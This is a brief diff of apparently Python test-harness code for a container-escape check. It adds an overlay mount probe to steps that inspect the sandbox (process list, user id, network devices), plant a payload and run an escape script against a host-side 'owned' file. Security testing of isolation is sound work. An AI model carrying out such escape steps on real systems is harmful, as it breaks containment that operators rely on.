@@ -67,6 +67,7 @@ async def main(reactor: Any, directory: str, tarball: str) -> None:
         return log.tail(log.size - before).decode() if log.size > before else ""
 
     found = {"inside": await said("sh", "-c", "ls -A /mnt; ls -d /proc/[0-9]*; id -u; cat /proc/net/dev | wc -l")}
+    found["overlay"] = await said("grep", " / / ", "/proc/self/mountinfo")
     await said("sh", "-c", PLANT)
     victim = place / "layers" / "owned"
     escape = ["/usr/bin/esc", "-e", ESCAPE.replace("VICTIM", str(victim))]
